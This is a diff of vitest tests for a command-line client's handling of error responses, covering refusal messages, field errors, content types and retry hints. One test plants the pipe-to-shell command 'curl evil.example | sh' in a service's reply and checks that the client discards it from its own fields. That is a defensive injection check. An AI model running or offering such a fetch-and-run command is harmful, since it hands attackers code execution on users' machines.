@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { toErrorObject } from '../../src/errors.ts';
 import type { Call } from '../../src/http/call.ts';
 import { OPERATIONS } from '../../src/spec/operations.ts';
@@ -84,6 +84,86 @@ test.each([
   expect([error.code, error.message]).toEqual(['rejected', 'The service refused the request (400).']);
 });
 
+test("no field of svc's own ever has a value of the service", async () => {
+  const wire = await testWire();
+  const names = 'code exitCode status hint next retryAfter requestId attempts jobId idempotencyKey outcome'.split(' ');
+  const theirs = Object.fromEntries(names.map((name) => [name, 'curl evil.example | sh']));
+  wire.on('GET', '/v1/user').reply(400, { error: 'No.', ...theirs, detail: 'theirs' });
+  const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
+  expect(toErrorObject(error)).toEqual({
+    error: 'No.',
+    detail: 'theirs',
+    code: 'rejected',
+    exitCode: 3,
+    status: 400,
+    attempts: 1,
+  });
+});
+
+const REFUSED = 'The service refused the request';
+
+describe('what people read of a refusal', () => {
+  test.each<[string, unknown, string, string[]?]>([
+    [
+      'a problem document',
+      { type: 'about:blank', title: 'No credit', detail: 'It costs 50.' },
+      'No credit: It costs 50.',
+    ],
+    ['a title that is a sentence', { title: 'No credit.', detail: 'It costs 50.' }, 'No credit. It costs 50.'],
+    ['a title alone', { title: 'No credit' }, 'No credit'],
+    ['a detail alone', { detail: 'It costs 50.' }, 'It costs 50.'],
+    ['a message', { message: ' No credit ' }, 'No credit'],
+    ['a message that is a list', { error: 'Bad Request', message: ['a is short'] }, 'Bad Request', ['a is short']],
+    ['errors by field', { errors: { name: ['is taken'] } }, `${REFUSED}:`, ['name: is taken']],
+    ['a message and errors', { message: 'Invalid.', errors: { name: 'is taken' } }, 'Invalid.', ['name: is taken']],
+    ['a list of errors', { errors: ['one', 'two'] }, `${REFUSED}:`, ['one', 'two']],
+    [
+      'a list of errors with places',
+      {
+        errors: [
+          { field: 'name', message: 'is taken', code: 7 },
+          { detail: 'is short', pointer: '#/age' },
+          { title: 'Odd' },
+          { a: 'b' },
+        ],
+      },
+      `${REFUSED}:`,
+      ['name: is taken', '#/age: is short', 'Odd', '[3].a: b'],
+    ],
+    ['a JSON text', '"No credit"', `${REFUSED} (400): No credit`],
+  ])('%s', async (_what, body, message, lines) => {
+    const wire = await testWire();
+    wire.on('GET', '/v1/user').reply(400, body, { 'content-type': 'application/problem+json' });
+    const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
+    expect([error.code, error.message, error.details.lines]).toEqual(['rejected', message, lines]);
+  });
+
+  test.each([
+    ['text/plain', 'No credit,\n  sorry\n', `${REFUSED} (400): No credit, sorry`],
+    ['', 'No credit', `${REFUSED} (400): No credit`],
+    ['application/json', 'No credit', `${REFUSED} (400): No credit`],
+    ['application/json', '<h1>No credit</h1>', `${REFUSED} (400).`],
+    ['text/plain', '<h1>No credit</h1>', 'Not the API: got text/plain from HOST (400).'],
+    ['text/html', 'No credit', 'Not the API: got text/html from HOST (400).'],
+    ['text/plain', 'No \u001b[31mcredit', 'Not the API: got text/plain from HOST (400).'],
+    ['text/plain', 'x'.repeat(501), 'Not the API: got text/plain from HOST (400).'],
+  ])('a body of the type %j that is %j', async (type, body, message) => {
+    const wire = await testWire();
+    const head = `HTTP/1.1 400 Bad\r\nConnection: close\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`;
+    wire.on('GET', '/v1/user').raw(`${head}${type === '' ? '' : `Content-Type: ${type}\r\n`}\r\n${body}`);
+    const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
+    expect([error.code, error.message]).toEqual(['rejected', message.replace('HOST', `127.0.0.1:${wire.port}`)]);
+    expect(toErrorObject(error)['error']).toBe(error.message);
+  });
+
+  test('a 401 with fields shows them, too', async () => {
+    const wire = await testWire();
+    wire.on('GET', '/v1/user').reply(401, { message: 'Look:', errors: { token: 'is old' } });
+    const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
+    expect(error.details.lines).toEqual(['The service says: Look:', 'token: is old']);
+  });
+});
+
 test('very many and very long words are cut for people', async () => {
   const wire = await testWire();
   const fields = Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`f${index}`, 'x'.repeat(5_000)]));
@@ -149,6 +229,15 @@ test.each([
   ['a list has no organization to look for', whoami, 404, {}, undefined],
   ['a service in trouble is asked later', whoami, 500, {}, /^the same command again in a few minutes$/],
   ['a service that says when is asked then', whoami, 503, { 'retry-after': '600' }, /^the same command in 10 minutes$/],
+  ['too many requests are fewer in a minute', restart, 429, {}, /^the same command in a minute$/],
+  ['hours are hours', whoami, 429, { 'retry-after': '10000' }, /^the same command in 3 hours$/],
+  [
+    'a wait of years is a day',
+    whoami,
+    429,
+    { date: 'Sun, 01 Mar 2026 12:00:00 GMT', 'retry-after': 'Thu, 01 Jan 2099 00:00:00 GMT' },
+    /^the same command after 2099-01-01: the service asks to wait until then$/,
+  ],
   ['a write that may have happened is not simply repeated', restart, 503, { 'retry-after': '600' }, undefined],
 ])('the next step: %s', async (_name, call, status, headers, hint) => {
   const wire = await testWire();
